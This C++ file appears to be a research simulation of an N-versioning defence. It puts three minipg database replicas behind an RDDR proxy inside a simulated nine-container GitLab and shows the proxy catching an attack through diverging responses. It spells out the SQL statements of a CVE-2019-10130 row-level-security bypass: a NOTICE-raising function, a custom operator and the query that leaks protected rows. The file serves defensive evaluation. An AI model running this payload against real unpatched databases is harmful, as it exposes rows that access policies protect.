// GitLab case study (paper §V-F, Figure 3): N-versioning ONE microservice
// (Postgres) inside a nine-container application.
//
// Demonstrates the paper's scalability argument — only the critical
// containers are replicated — and reproduces CVE-2019-10130: a
// row-level-security bypass in minipg 10.7's selectivity estimation,
// detected because the 10.9 instance's responses diverge.
#include <cstdio>

#include "common/strutil.h"
#include "netsim/host.h"
#include "netsim/network.h"
#include "rddr/rddr.h"
#include "services/gitlab.h"
#include "services/http_service.h"
#include "sqldb/client.h"
#include "sqldb/server.h"

using namespace rddr;

int main() {
  sim::Simulator simulator;
  sim::Network net(simulator, 50 * sim::kMicrosecond);
  sim::Host host(simulator, "node-1", 32, 64LL << 30);

  // --- the N-versioned database tier: 10.7 / 10.7 / 10.9 -----------------
  const char* versions[] = {"10.7", "10.7", "10.9"};
  std::vector<std::shared_ptr<sqldb::Database>> dbs;
  std::vector<std::unique_ptr<sqldb::SqlServer>> servers;
  for (int i = 0; i < 3; ++i) {
    auto db = std::make_shared<sqldb::Database>(sqldb::minipg_info(versions[i]));
    services::GitlabApp::init_schema(*db);
    sqldb::Session s(*db, "postgres");
    s.execute(
        "CREATE TABLE protected_rows (col_to_leak int, owner_name text);"
        "INSERT INTO protected_rows VALUES (11,'alice'),(22,'mallory'),"
        "(33,'alice');"
        "GRANT SELECT ON protected_rows TO mallory;"
        "ALTER TABLE protected_rows ENABLE ROW LEVEL SECURITY;"
        "CREATE POLICY own ON protected_rows USING "
        "(owner_name = current_user);");
    sqldb::SqlServer::Options so;
    so.address = strformat("gitlab-pg-%d:5432", i);
    so.rng_seed = 500 + static_cast<uint64_t>(i);
    dbs.push_back(db);
    servers.push_back(std::make_unique<sqldb::SqlServer>(net, host, db, so));
  }

  auto rddr = core::NVersionDeployment::Builder()
                  .name("gitlab-db")
                  .listen("gitlab-db:5432")
                  .versions({"gitlab-pg-0:5432", "gitlab-pg-1:5432",
                             "gitlab-pg-2:5432"})
                  .plugin(std::make_shared<core::PgPlugin>())  // server_version
                  .filter_pair(true)  // 10.7/10.7 is benign variance
                  .build(net, host);

  // --- the rest of GitLab, unmodified except for its DB address ----------
  services::GitlabApp::Options gopts;
  gopts.db_address = "gitlab-db:5432";
  services::GitlabApp gitlab(net, host, gopts);
  std::printf("deployment: %zu GitLab containers + 3 DB replicas + 1 RDDR "
              "proxy (paper: 1 of 9 services replicated => ~33%% overhead)\n",
              gitlab.container_count());

  // --- benign traffic through the whole stack ----------------------------
  auto browse = [&](const char* what, const std::string& target) {
    int status = -1;
    Bytes body;
    services::HttpClient client(net, "browser");
    client.get("gitlab:80", target, [&](int s, const http::Response* r) {
      status = s;
      if (r) body = r->body;
    });
    simulator.run_until_idle();
    std::printf("  %-22s -> HTTP %d (%zu bytes)\n", what, status, body.size());
  };
  std::printf("\n== benign traffic (ingress -> workhorse -> puma -> RDDR -> "
              "3x minipg) ==\n");
  browse("GET /projects", "/projects");
  browse("GET /health", "/health");
  simulator.run_until(simulator.now() + 2 * sim::kSecond);  // sidekiq jobs
  gitlab.stop_sidekiq();
  simulator.run_until_idle();
  std::printf("  sidekiq background jobs: %llu ran, %llu failed\n",
              static_cast<unsigned long long>(gitlab.sidekiq_jobs_run()),
              static_cast<unsigned long long>(gitlab.sidekiq_job_failures()));

  // --- the exploit (Listing 2), via an assumed SQL injection -------------
  std::printf("\n== CVE-2019-10130 exploit from a neighbouring container ==\n");
  auto attack = [&](const char* sql) {
    sqldb::QueryOutcome out;
    sqldb::PgClient attacker(net, "compromised-svc", "gitlab-db:5432",
                             "mallory");
    attacker.query(sql, [&](sqldb::QueryOutcome o) { out = std::move(o); });
    simulator.run_until_idle();
    std::printf("  %-30.30s -> %s", sql,
                out.connection_lost
                    ? "CONNECTION ABORTED by RDDR"
                    : (out.error_sqlstate ? out.error_message.c_str() : "ok"));
    int leaks = 0;
    for (const auto& n : out.notices)
      if (n.find("leak") != std::string::npos) ++leaks;
    std::printf("  (leak notices reaching attacker: %d)\n", leaks);
  };
  attack("CREATE FUNCTION op_leak(int, int) RETURNS bool AS 'BEGIN RAISE "
         "NOTICE ''leak %, %'', $1, $2; RETURN $1 < $2; END' LANGUAGE "
         "plpgsql;");
  attack("CREATE OPERATOR <<< (procedure=op_leak, leftarg=int, rightarg=int, "
         "restrict=scalarltsel);");
  attack("SELECT * FROM protected_rows WHERE col_to_leak <<< 1000;");

  std::printf("\n== interventions ==\n");
  for (const auto& rec : rddr->bus().records())
    if (rec.is_intervention())
      std::printf("  [%s] %s\n", rec.proxy.c_str(), rec.reason.c_str());

  // GitLab still works afterwards.
  std::printf("\n== GitLab after the intervention ==\n");
  browse("GET /projects", "/projects");
  return 0;
}
